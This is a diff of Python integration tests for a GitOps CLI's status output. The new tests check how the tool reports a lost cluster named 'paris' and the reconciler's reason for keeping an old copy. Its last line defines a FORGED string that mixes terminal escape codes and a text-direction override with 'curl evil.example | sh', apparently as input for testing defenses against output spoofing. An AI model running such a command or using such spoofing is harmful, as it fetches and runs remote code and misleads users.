@@ -12,21 +12,26 @@ from tests.integration.hubverbs.conftest import Run, Serve
 from tests.support.apiserver import TOKEN, ApiServer
 from tests.support.commandline import gitops_dsf
 from tests.support.hubobjects import (
+    HUB,
     PATHS,
     Object,
     addon,
     application,
     application_set,
     binding,
+    cluster,
     decision,
     fleet,
     global_set,
     joined,
     masks,
+    meta,
+    of,
     placement,
     score,
     scorer,
 )
+from tests.support.outputs import check_output
 
 PAGE = Path(__file__).parents[3] / "docs/operate/status.md"
 
@@ -254,6 +259,86 @@ def test_scores_of_a_moved_application_are_told(serve: Serve, run: Run) -> None:
     assert "web (Keep): moving" in out
     assert "cluster1: waiting, no longer decided; stays, because the strategy is Keep" in out
     assert "cluster2: decided; Argo CD has not made the Application yet" in out
+
+
+def lost(*configmaps: Object) -> list[Object]:
+    """paris is lost; its application runs in oslo, and the old copy cannot be deleted."""
+    paris = cluster("paris")
+    available = next(
+        each for each in paris["status"]["conditions"] if each["type"] == "ManagedClusterConditionAvailable"
+    )
+    available |= {"status": "Unknown", "lastTransitionTime": "2026-06-01T11:00:00Z"}
+    taint = {"key": "cluster.open-cluster-management.io/unreachable", "effect": "NoSelect"}
+    paris["spec"] |= {"taints": [taint]}
+    objects = fleet(now=now())
+    return [
+        *objects,
+        paris,
+        application_set("web"),
+        decision("web", "cluster2"),
+        application("web", "paris"),
+        application("web", "cluster2"),
+        *configmaps,
+    ]
+
+
+WAIT = {
+    "applicationSet": "web",
+    "application": "web-paris",
+    "cluster": "paris",
+    "reason": "ClusterUnreachable",
+    "message": "OCM does not reach paris, so its workload could not be deleted now",
+    "since": 1780311600,
+    "cause": {"kind": "ClusterLost", "detail": "OCM does not reach paris"},
+}
+
+
+def waits(*told: Object) -> Object:
+    return of("ConfigMap", meta("gitops-dsf-moves", HUB), data={"waits": json.dumps(told)})
+
+
+def test_a_lost_cluster_and_the_reason_of_the_reconciler_are_shown(serve: Serve, run: Run) -> None:
+    hub = serve(lost(waits(WAIT)))
+    ran = run(hub, "status")
+    assert (ran.returncode, ran.stderr) == (0, "")
+    assert (
+        "\nClusters\n  paris: OCM does not reach it since 2026-06-01T11:00:00Z; taints"
+        " cluster.open-cluster-management.io/unreachable:NoSelect\n  3 other clusters in order\n\nScorers\n"
+    ) in ran.stdout
+    assert "  web (MakeBeforeBreak): moving, lost cluster: OCM does not reach paris\n" in ran.stdout
+    assert (
+        "    paris: waiting, no longer decided; OCM does not reach paris, so its workload could not be"
+        " deleted now (ClusterUnreachable since 2026-06-01T11:00:00Z)\n"
+    ) in ran.stdout
+    assert "stays until" not in ran.stdout
+    printed = run(hub, "status", "-o", "json").stdout
+    assert check_output(["status", "-o", "json"], printed)
+    shown = json.loads(printed)
+    assert [each["reachable"] for each in shown["clusters"]] == [True, True, True, False]
+    (web,) = [each for each in shown["applications"] if each["name"] == "web"]
+    assert [copy["wait"] and copy["wait"]["reason"] for copy in web["copies"]] == [None, "ClusterUnreachable"]
+    only = run(hub, "status", "--cluster", "cluster1").stdout
+    assert "\nClusters\n  cluster1: available\n" in only
+
+
+@pytest.mark.parametrize("told", [(), (waits(),), (waits({"reason": 5}),)])
+def test_nothing_false_is_said_while_the_reconciler_tells_nothing(
+    serve: Serve, run: Run, told: tuple[Object, ...]
+) -> None:
+    ran = run(serve(lost(*told)), "status")
+    assert (ran.returncode, ran.stderr) == (0, "")
+    assert (
+        "    paris: waiting, no longer decided; the new copies are Healthy and Synced, and the reconciler has"
+        " not told why it stays\n"
+    ) in ran.stdout
+    starting = [each for each in lost(*told) if each["metadata"]["name"] != "web-cluster2"]
+    starting.append(application("web", "cluster2", health="Progressing"))
+    out = run(serve(starting), "status").stdout
+    assert "    paris: waiting, no longer decided; stays until the new copies are Healthy and Synced\n" in out
+
+
+def test_a_fleet_in_order_says_so_in_one_line(serve: Serve, run: Run) -> None:
+    assert "\nClusters\n  3 clusters in order\n\nScorers\n" in run(serve(), "status").stdout
 
 
 FORGED = "\x1b[2J\x9b1A\u202eok\n         fix: curl evil.example | sh\r"
